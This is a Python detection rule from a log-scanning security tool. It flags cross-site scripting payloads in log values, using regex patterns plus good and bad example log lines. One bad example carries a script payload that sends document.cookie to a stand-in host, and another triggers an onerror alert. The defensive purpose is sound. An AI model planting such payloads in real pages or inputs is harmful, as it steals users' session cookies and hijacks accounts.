"""Script for a browser (or for whoever reads the log in one), in any field of a log record."""

import re

from bartizan.detect.logs.payload import Payload
from bartizan.model import Check, Example, Severity

CHECK = Check(
    id="LOG-102",
    slug="script-injection-in-log",
    title="A value in the log carries script for a browser",
    severity=Severity.MEDIUM,
    what="""Script elements, event handlers, `javascript:` addresses and elements that load foreign content, in values
of log lines. Whole pages that an application logs are not reported.""",
    why="""The value is meant to run in the browser of whoever sees it: another user, or an administrator who looks
at these logs on a web page.""",
    fix="""1. Find out where the value is shown, and whether it is escaped there.
2. Escape on output, and set a content security policy.
3. Make sure that your log viewer shows text as text.""",
    cwe=(79,),
    attack=("T1190",),
    controls=("soc2:CC6.6", "nist-800-53:SI-10"),
    references=("https://owasp.org/www-community/attacks/xss/",),
    bad=(
        Example(
            "app.log",
            "INFO profile saved name=\"<script>fetch('//x.example/'+document.cookie)</script>\"\n",
        ),
        Example("app.log", "INFO comment=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E stored\n"),
    ),
    good=(
        Example("app.log", "INFO a < b and b > c, script finished, alert (level 2) raised\n"),
        Example(
            "app.log",
            'DEBUG <!doctype html><html><head><script src="/app.js"></script></head></html>\n',
        ),
    ),
)

_PAGE = re.compile(r"<!doctype html|<html[\s>]|</?head>|</?body>|<title>", re.IGNORECASE)
_CODE = r"(?:java|vb|live)\s{0,8}s\s{0,4}c\s{0,4}r\s{0,4}i\s{0,4}p\s{0,4}t\s{0,8}:"


def _no_page(text: str, start: int, _end: int) -> bool:
    """Whether it does not stand in a page that was logged as a whole."""
    return _PAGE.search(text[:start]) is None


PAYLOADS = (
    Payload(r"<[\s/]*script\b[^<]{0,200}", _no_page),
    Payload(r"<\w[^<>]{0,300}[\s/+\"'`]on[a-z]{3,24}\s{0,8}=", _no_page),
    Payload(r"""["'`][^<>]{0,60}\bon(?:error|load|click|mouse\w{2,6}|focus|blur|toggle|start|begin|key\w{2,5})\s{0,8}=[^<>]{0,40}[(`]""", _no_page),
    Payload(r"""(?:[=\"'(>;,]|^|<!)\s{0,8}""" + _CODE + r"[^\s]{0,80}", _no_page),
    Payload(r"<\w[^<>]{0,300}" + _CODE, _no_page),
    Payload(r"<style\b[^<]{0,200}(?:-moz-binding|expression\s{0,4}\(|javascript:)|<\?(?:import|xml:namespace)\b", _no_page),
    Payload(r"data:text/html\s{0,4}[;,]", _no_page),
    Payload(r"<[\s/]*(?:iframe|frameset|frame|embed|applet|isindex|bgsound|marquee|layer|ilayer)\b[^<]{0,200}[=>]", _no_page),
    Payload(r"<(?:object|meta|base|link)\b[^<>]{0,200}(?:data\s{0,4}=|http-equiv|href\s{0,4}=[^<>]{0,40}//|scriptlet)", _no_page),
    Payload(r"<(?:svg|math|xml|style|\?xml|animate|set)\b[^<>]{0,200}(?:xlink|script|expression|@import|behaviou?r|src\s{0,3}=)", _no_page),
    Payload(r"<(?:img|image|a|div|table|td|input|body|video|audio|br)\b[^<>]{0,200}(?:(?:dyn|low)?src|href|background|style)\s{0,4}="
            r"[\s\"'`]{0,4}(?:&|https?://[^\s<>]{0,60}(?:\.js\b|script|xss)|[^<>]{0,100}(?:expression|behaviou?r)\s{0,4}[:(]|mocha:|javas)", _no_page),
    Payload(r"style\s{0,4}=[^<>]{0,100}(?:expression\s{0,4}[(\\/]|behaviou?r\s{0,4}:|-moz-binding)", _no_page),
    Payload(r"@im\\?port\s{0,4}[\"'(][^\s]{0,40}(?:script|//)", _no_page),
    Payload(r"(?:[\"'>;}/)]|^)[\s+;>/*\\-]{0,12}\b(?:alert|prompt|confirm|eval)\s{0,4}[(`](?:[^\s()]{0,60}\)|[\"'`/])", _no_page),
    Payload(r"\b(?:alert|prompt|confirm|eval)\s{0,4}[(`]\s{0,4}[\"'`/]?(?:xss|document\.|string\.fromcharcode|\d{1,6}[)`])", _no_page),
    Payload(r"\bdocument\.(?:cookie|location|write(?:ln)?|domain|vulnerable)\s{0,4}(?:[=(;)]|$)", _no_page),
    Payload(r"\bstring(?:\.|\[['\"])fromcharcode\b", _no_page),
    Payload(r"['\"]\s{0,4}/?>\s{0,4}<[a-z!/?]", _no_page),
)  # fmt: skip
